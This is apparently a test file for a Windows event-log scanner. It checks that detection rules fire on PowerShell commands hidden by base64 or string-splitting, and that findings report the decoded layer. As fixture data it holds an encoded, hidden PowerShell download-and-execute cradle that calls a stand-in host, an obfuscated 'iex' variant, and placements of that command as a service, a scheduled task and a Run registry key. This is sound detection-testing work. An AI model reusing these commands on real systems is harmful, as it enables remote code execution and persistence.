#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Rules are asked again on what hidden code says, and findings tell in which layer they were made.

usage: test_layers.py BUILD_FOLDER
"""
import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import Test  # noqa: E402

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
ENCODED = base64.b64encode(SCRIPT.encode('utf-16le')).decode()
COMMAND = f'powershell.exe -nop -w hidden -enc {ENCODED}'

RULES = {
    'raw': ('process_creation', "s: {CommandLine|contains: ' -enc '}", 's'),
    'layer': ('process_creation', 's: {CommandLine|contains: DownloadString}', 's'),
    'both': ('process_creation', "s: {CommandLine|contains|all: [' -enc ', DownloadString]}", 's'),
    'filter-raw': ('process_creation', "s: {CommandLine|contains: DownloadString}\n  f: {CommandLine|contains: '-nop'}", 's and not f'),
    'filter-layer': ('process_creation', "s: {CommandLine|contains: ' -enc '}\n  f: {CommandLine|contains: DownloadString}", 's and not f'),
    'filter-other': ('process_creation', "s: {CommandLine|contains: DownloadString}\n  f: {CommandLine|contains: nowhere}", 's and not f'),
    'expression': ('process_creation', "s: {CommandLine|re: '(?i)^iex\\s'}", 's'),
    'parent': ('process_creation', 's: {ParentCommandLine|contains: DownloadString}', 's'),
    'block': ('ps_script', 's: {ScriptBlockText|contains: DownloadString}', 's'),
    'context': ('ps_module', 's: {ContextInfo|contains: DownloadString}', 's'),
    'host': ('ps_module', "s: {HostApplication|contains: DownloadString}\n  f: {HostApplication|contains: powershell}\n  g: {HostApplication|contains: harmless}", 's and f and not g'),
    'payload': ('ps_module', 's: {Payload|contains: DownloadString}', 's'),
    'classic': ('ps_classic_start', 's: {Data|contains: DownloadString}', 's'),
    'registry': ('registry_set', 's: {Details|contains: DownloadString}', 's'),
}
SERVICES = {
    'service': ('system', 's: {ImagePath|contains: DownloadString}', 's'),
    'task': ('security', 's: {EventID: 4698, TaskContent|contains: DownloadString}', 's'),
    'keyword': ('sysmon', "s: ['198.51.100.7/a']", 's'),
}
CORRELATION = '''title: twice
id: 00000000-0000-4000-8000-0000000000ff
correlation: {type: event_count, rules: [layer], group-by: [Computer], timespan: 1h, condition: {gte: 2}, generate: true}
level: high
'''


def rules_text():
    out = []
    for kind, table in ('category', RULES), ('service', SERVICES):
        for name, (source, parts, condition) in table.items():
            out.append(f'title: {name}\nname: {name}\nid: 00000000-0000-4000-8000-{len(out):012d}\n'
                       f'logsource: {{product: windows, {kind}: {source}}}\n'
                       f'detection:\n  {parts}\n  condition: {condition}\nlevel: low\n')
    return '---\n'.join(out + [CORRELATION])


def event(channel, event_id, provider='', record=1, **data):
    return {'Channel': channel, 'EventID': event_id, 'Provider_Name': provider, 'EventRecordID': record,
            'Computer': 'PC-1', 'TimeCreated': f'2020-12-22T09:00:{record:02d}Z', **data}


def process(record=1, **data):
    return event('Microsoft-Windows-Sysmon/Operational', 1, 'Microsoft-Windows-Sysmon', record,
                 Image='C:\\a\\powershell.exe', **data)


class Scans:
    def __init__(self, t, folder):
        self.t, self.folder = t, folder
        self.rules = self.write('rules.yml', rules_text())

    def write(self, name, text):
        path = os.path.join(self.folder, name)
        with open(path, 'w', encoding='utf-8') as f:
            f.write(text)
        return path

    def log(self, *events):
        return self.write('log.jsonl', ''.join(json.dumps(e) + '\n' for e in events))

    def scan(self, path, *options):
        code, out, err = self.t.run('scan', '-q', '--format', 'jsonl', '--rules', self.rules, *options, path)
        self.t.check(code == 0, f'exit code {code}: {err[:300]}')
        return [json.loads(line) for line in out.splitlines()], out

    def found(self, *events, options=()):
        """{title: finding}; each rule once an event."""
        found, _ = self.scan(self.log(*events), *options)
        self.t.check(len({f['rule_title'] for f in found}) == len(found), 'a rule is told once for an event')
        return {f['rule_title']: f for f in found}


def command_lines(s):
    t = s.t
    found = s.found(process(CommandLine=COMMAND))
    t.check(set(found) == {'raw', 'filter-layer', 'layer', 'both', 'filter-other', 'expression', 'keyword'},
            f'encoded command: {sorted(found)}')
    t.check(found['raw']['layer'] == 0 and 'decoded' not in found['raw'], 'what the raw text says is of layer 0')
    layer = found['layer']
    t.check(layer['layer'] >= 1 and layer['decoded']['field'] == 'CommandLine', f'layer is told: {layer}')
    t.check(layer['decoded']['kind'] == 'powershell' and 'base64' in layer['decoded']['steps'], f'{layer["decoded"]}')
    t.check(layer['matched'] == [{'field': 'CommandLine', 'value': SCRIPT}], f'the layer is shown: {layer["matched"]}')
    values = [p['value'] for p in found['both']['matched']]
    t.check(COMMAND in values and SCRIPT in values, 'a condition may hold on the layer and on the recorded text')
    # The filter of `filter-layer` holds on the layer only: what the raw text gives stays. That of `filter-raw`
    # holds on the recorded text: it excludes the layer too.
    plain = s.found(process(CommandLine=COMMAND), options=['--no-decode'])
    t.check(set(plain) == {'raw', 'filter-layer'}, f'without decoding: {sorted(plain)}')
    found = s.found(process(CommandLine='cmd /c dir', ParentCommandLine=COMMAND))
    t.check(set(found) == {'parent', 'keyword'}, f'parent: {sorted(found)}')
    found = s.found(process(CommandLine='notepad.exe C:\\a\\plain.txt'))
    t.check(not found, f'plain text: {sorted(found)}')


def repeated(s):
    """That events with the same values had no layers is remembered: by all that their code stands in, asked for or not."""
    t = s.t
    rules = s.write('few.yml', '---\n'.join(
        f'title: {name}\nid: 00000000-0000-4000-8000-{n:012d}\nlogsource: {{product: windows, {source}}}\n'
        f'detection:\n  {parts}\n  condition: s\nlevel: low\n'
        for n, (name, source, parts) in enumerate([
            ('image', 'category: process_creation', "s: {Image|endswith: 'e.exe'}"),
            ('parent', 'category: process_creation', 's: {ParentCommandLine|contains: DownloadString}'),
            ('keyword', 'service: sysmon', "s: ['198.51.100.7/a']")])))
    plain, lines = 'cmd.exe /c dir C:\\data', []
    for i in range(1, 41):
        lines.append(process(i, CommandLine=COMMAND if i % 4 == 3 else plain, ParentCommandLine=COMMAND if i % 8 == 6 else plain))
    _, out, _ = t.run('scan', '-q', '--format', 'jsonl', '--rules', rules, s.log(*lines))
    found = sorted((f['rule_title'], f['record_id']) for f in map(json.loads, out.splitlines()) if f['rule_title'] != 'image')
    expected = sorted([('keyword', i) for i in range(1, 41) if i % 4 == 3 or i % 8 == 6] + [('parent', i) for i in range(1, 41) if i % 8 == 6])
    t.check(found == expected, f'repeated events: {found} for {expected}')


def other_fields(s):
    t = s.t
    posh = ('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell')
    hidden = "&('i'+'ex') (('new-obj'+'ect') + ' net.webclient').('Downl'+'oadString')"
    context = f'        Severity = Informational\r\n        Host Name = a\r\n        Host Application = {COMMAND}\r\n        Engine Version = 5\r\n'
    payload = f'CommandInvocation(iex): "iex"\r\nParameterBinding(iex): name="Command"; value="{hidden}"\r\n'
    xml = f'<Task><Actions><Exec><Command>powershell</Command><Arguments>-e {ENCODED}</Arguments></Exec></Actions></Task>'
    cases = [
        (event(posh[0], 4104, posh[1], MessageNumber=1, MessageTotal=1, ScriptBlockText=hidden, ScriptBlockId='a'),
         {'block'}, 'ScriptBlockText', None),
        (event(posh[0], 4103, posh[1], ContextInfo=context, Payload=''), {'context', 'host'}, 'ContextInfo', 'HostApplication'),
        (event(posh[0], 4103, posh[1], ContextInfo=context.replace(' = a', ' = harmless'), Payload=''), {'context', 'host'},
         'ContextInfo', 'HostApplication'),
        (event(posh[0], 4103, posh[1], ContextInfo=context.replace('powershell.exe', 'C:\\harmless\\powershell.exe'), Payload=''), {'context'},
         'ContextInfo', 'HostApplication'),
        (event(posh[0], 4103, posh[1], ContextInfo='', Payload=payload), {'payload'}, 'Payload', 'value'),
        (event('Windows PowerShell', 400, 'PowerShell', Data=['Available', 'None', f'\tHostName=a\r\n\tHostApplication={COMMAND}\r\n']),
         {'classic'}, 'Data', 'HostApplication'),
        (event('System', 7045, 'Service Control Manager', ServiceName='a', ImagePath=f'%COMSPEC% /c {COMMAND}'),
         {'service'}, 'ImagePath', None),
        (event('Security', 4698, 'Microsoft-Windows-Security-Auditing', TaskName='a', TaskContent=xml), {'task'},
         'TaskContent', 'Command'),
        (event('Microsoft-Windows-Sysmon/Operational', 13, 'Microsoft-Windows-Sysmon', EventType='SetValue',
               TargetObject='HKU\\S\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a', Details=COMMAND),
         {'registry', 'keyword'}, 'Details', None),
        (event('Security', 4657, 'Microsoft-Windows-Security-Auditing', ObjectName='\\REGISTRY\\MACHINE\\a', ObjectValueName='b',
               OperationType='%%1904', NewValueType='%%1873', NewValue=COMMAND), {'registry'}, 'NewValue', None),
    ]
    for recorded, titles, field, part in cases:
        found = s.found(recorded)
        t.check(set(found) == titles, f'{field} of {recorded["EventID"]}: {sorted(found)}, not {sorted(titles)}')
        for f in found.values():
            t.check(f['layer'] > 0 and f['decoded']['field'] == field and f['decoded'].get('part') == part,
                    f'{field}: {f.get("decoded")}')
        t.check(not s.found(recorded, options=['--no-decode']), f'{field}: found without decoding')


def across(s):
    """Scripts in parts, correlations, threads, guards, and the other outputs."""
    t = s.t
    cut = len(SCRIPT) // 2
    text = f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{ENCODED}')))"
    parts = [text[:60 + cut], text[60 + cut:]]
    path = os.path.join(s.folder, 'parts.evtx')
    subprocess.run([os.path.join(t.build, 'test/make_scripts'), path], text=True, check=True,
                   input=''.join(f'{i + 1} 2 id {p}\n' for i, p in enumerate(parts)))
    found, _ = s.scan(path)
    t.check([f['rule_title'] for f in found] == ['block'] and found[0]['layer'] and found[0]['script']['parts'] == 2,
            f'the Base64 text is whole only when the parts are joined: {found}')
    t.check(not found[0]['decoded']['partial'], 'nothing is missing in it')
    path = os.path.join(s.folder, 'gap.evtx')
    subprocess.run([os.path.join(t.build, 'test/make_scripts'), path], text=True, check=True,
                   input=f"1 3 id {text}; $x = 'Down'\n3 3 id $y = $x + 'loadString'\n")
    found, _ = s.scan(path)
    t.check([f['decoded']['partial'] for f in found] == [True], f'a layer of a script with a gap is partial: {found}')
    events = [process(n, CommandLine=COMMAND + ' ' * (n % 3)) for n in range(1, 50)]
    path = s.log(*events)
    found, out = s.scan(path)
    twice = [f for f in found if f['rule_title'] == 'twice']
    t.check(len(twice) == 24 and twice[0]['correlation']['count'] == 2, 'correlations count findings of layers')
    for options in ['-t4'], ['--no-prefilter'], ['-t3', '--memory', '4K']:
        t.check(s.scan(path, *options)[1] == out, f'other bytes with {options}')
    _, out, _ = t.run('scan', '-q', '--format', 'csv', '--rules', s.rules, path)
    t.check(b'Layer: 1 of CommandLine, powershell: ' in out, 'CSV says so')
    _, out, _ = t.run('scan', '-q', '--rules', s.rules, path)
    t.check(b'[layer 1]' in out, 'the table says so')
    page = os.path.join(s.folder, 'page.html')
    t.run('scan', '-q', '--rules', s.rules, '--html', page, '--html-plain', '-o', os.devnull, path)
    with open(page, encoding='utf-8') as f:
        t.check('"decoded":{"field":"CommandLine","part":"","kind":"powershell"' in f.read(), 'the report has it')
    code, out, err = t.run('rules', 'explain', '00000000-0000-4000-8000-000000000001', '--record', path + ':5', '--rules', s.rules)
    t.check(code == 0 and b'layer 1 of CommandLine' in out and b'DownloadString' in out, f'explain: {out.decode()} {err}')


def main():
    t = Test(sys.argv[1])
    folder = tempfile.mkdtemp()
    try:
        s = Scans(t, folder)
        command_lines(s)
        repeated(s)
        other_fields(s)
        across(s)
    finally:
        shutil.rmtree(folder)
    t.end()


main()
